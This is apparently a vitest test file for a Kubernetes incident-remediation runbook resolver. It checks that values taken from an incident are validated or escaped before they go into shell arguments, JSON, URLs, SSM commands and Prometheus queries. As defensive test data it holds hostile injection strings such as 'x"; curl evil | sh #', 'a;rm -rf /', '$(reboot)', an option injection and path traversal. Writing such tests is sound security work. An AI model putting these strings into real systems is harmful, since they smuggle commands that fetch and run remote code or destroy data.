import { describe, expect, it } from 'vitest';
import { loadRunbook } from './load-runbook.ts';
import { formatProblem } from './problem.ts';
import type { PlanContext } from './plan-values.ts';
import { resolvePlan } from './resolve-plan.ts';
import type { Runbook } from './runbook.ts';

const incident: PlanContext = {
  incidentId: 'inc-1',
  service: 'api-server',
  resource: { kind: 'pod', namespace: 'production', name: 'api-server-abc123' },
  context: {},
};

function runbookWith(step: string, parameters = '{}', verification = '{}'): Runbook {
  const text = `apiVersion: remediations.kubedojo.io/v1
kind: RemediationRunbook
metadata: {name: test}
spec:
  intent: Test.
  owner: team
  parameters: ${parameters}
  steps: [${step}]
  verification: ${verification}
`;
  const { runbooks, problems } = loadRunbook(text, 'test.yaml');
  expect(problems.map(formatProblem)).toEqual([]);
  return runbooks[0] as Runbook;
}

const DELETE = '{id: a, action: kubernetes.deletePod, with: {namespace: "${NAMESPACE}", pod: "${POD_NAME}"}}';

function argumentsOf(runbook: Runbook, context: Partial<PlanContext> = {}): unknown {
  const plan = resolvePlan(runbook, { ...incident, ...context });
  return plan.ok ? plan.steps[0]?.with : plan.why;
}

describe('what the incident says', () => {
  it('fills the names of the resource', () => {
    expect(argumentsOf(runbookWith(DELETE))).toEqual({ namespace: 'production', pod: 'api-server-abc123' });
  });

  it('leaves a plan that lacks a name to people, and says which', () => {
    expect(resolvePlan(runbookWith(DELETE), { ...incident, resource: undefined })).toEqual({
      ok: false,
      missing: ['NAMESPACE', 'POD_NAME'],
      why: 'step a, namespace: the incident does not say what ${NAMESPACE} is; step a, pod: the incident does not say what ${POD_NAME} is',
    });
  });

  it('never takes a namespace from anywhere but the resource that scope was asked about', () => {
    const resource = { kind: 'pod', namespace: '', name: 'web-1' };
    const context = { namespace: 'kube-system', NAMESPACE: 'kube-system' };
    expect(resolvePlan(runbookWith(DELETE), { ...incident, resource, context })).toMatchObject({
      ok: false,
      missing: ['NAMESPACE'],
    });
  });

  it.each(['a b', 'a;rm -rf /', '$(reboot)', '../x', 'A', '-n', 'a\nb', ''])(
    'refuses %j as the name of a pod',
    (name) => {
      const resource = { kind: 'pod', namespace: 'production', name };
      expect(resolvePlan(runbookWith(DELETE), { ...incident, resource }).ok).toBe(false);
    },
  );

  it('looks a value up once: a placeholder inside a value is refused', () => {
    const runbook = runbookWith(
      '{id: a, action: aws.sns.publish, with: {topicArn: t, message: "on ${SERVICE}"}}',
    );
    expect(argumentsOf(runbook, { service: '${before.secret}' })).toBe(
      'step a, message: ${SERVICE} holds a placeholder itself',
    );
  });
});

describe('parameters', () => {
  const SCALE =
    '{id: a, action: kubernetes.scale, with: {namespace: "${NAMESPACE}", name: web, addReplicas: "${addReplicas}"}}';
  const scale = runbookWith(SCALE, '{addReplicas: {type: integer, default: 1, allowedValues: [1, 2]}}');

  it('have the value given by hand before that of the incident before the default, in their type', () => {
    const context = { addReplicas: '2' };
    expect(argumentsOf(scale)).toMatchObject({ addReplicas: 1 });
    expect(argumentsOf(scale, { context })).toMatchObject({ addReplicas: 2 });
    expect(argumentsOf(scale, { context, parameters: { addReplicas: 1 } })).toMatchObject({ addReplicas: 1 });
    expect(argumentsOf(scale, { context: { add_replicas: '2' } })).toMatchObject({ addReplicas: 2 });
  });

  it('refuse what they do not allow', () => {
    expect(argumentsOf(scale, { context: { addReplicas: '3' } })).toBe(
      'step a, addReplicas: parameter addReplicas is not one of 1, 2',
    );
    expect(argumentsOf(scale, { context: { addReplicas: '1.5' } })).toContain('is not a whole number');
  });

  it('that are required and not used have to be given all the same', () => {
    const runbook = runbookWith(DELETE, '{ticket: {required: true, pattern: "OPS-[0-9]+"}}');
    expect(resolvePlan(runbook, incident)).toMatchObject({ ok: false, missing: ['ticket'] });
    expect(resolvePlan(runbook, { ...incident, context: { ticket: 'OPS-1' } }).ok).toBe(true);
    expect(resolvePlan(runbook, { ...incident, context: { ticket: 'OPS-1; x' } }).ok).toBe(false);
  });
});

describe('destinations', () => {
  const hostile = { service: 'x"; curl evil | sh #' };

  it('hand an argument to a program as one argument', () => {
    const runbook = runbookWith(
      '{id: a, action: shell.command, with: {program: /bin/echo, args: ["${SERVICE}"]}}',
    );
    expect(argumentsOf(runbook, hostile)).toEqual({ program: '/bin/echo', args: [hostile.service] });
  });

  it('never let a value become an option', () => {
    const runbook = runbookWith(
      '{id: a, action: shell.command, with: {program: /bin/ls, args: ["${SERVICE}"]}}',
    );
    expect(argumentsOf(runbook, { service: '--exec=x' })).toContain('must not stand here');
  });

  it('escape a value inside JSON and inside a URL', () => {
    const json = runbookWith(
      '{id: a, action: aws.lambda.invoke, with: {function: f, payload: {service: "${SERVICE}"}}}',
    );
    expect(argumentsOf(json, hostile)).toEqual({
      function: 'f',
      payload: JSON.stringify({ service: hostile.service }),
    });
    const url = runbookWith('{id: a, action: http.call, with: {url: "https://ops/x/${SERVICE}"}}');
    expect(argumentsOf(url, { service: '../admin?x=1' })).toEqual({
      url: 'https://ops/x/..%2Fadmin%3Fx%3D1',
    });
    expect(argumentsOf(url, { service: '..' })).toContain('must not stand here');
  });

  it('refuse what a document could paste into a script', () => {
    const runbook = runbookWith(
      '{id: a, action: aws.ssm.runCommand, with: {document: Restart, instanceIds: [i-1], parameters: {unit: ["${SERVICE}"]}}}',
    );
    expect(argumentsOf(runbook, hostile)).toContain('must not stand here');
    expect(argumentsOf(runbook)).toMatchObject({ parameters: '{"unit":["api-server"]}' });
  });

  it('refuse a value that would end the quotes of a query', () => {
    const verification = `{checks: [{name: m, metric: {source: prometheus, query: 'up{service="\${SERVICE}"}'}, expect: after > before}]}`;
    const runbook = runbookWith(DELETE, '{}', verification);
    expect(argumentsOf(runbook, hostile)).toBe(
      'check m: ${SERVICE} holds a value that must not stand in a query',
    );
    const plan = resolvePlan(runbook, incident);
    expect(plan.ok && plan.checks[0]?.metric).toEqual({
      source: 'prometheus',
      query: 'up{service="api-server"}',
    });
  });
});
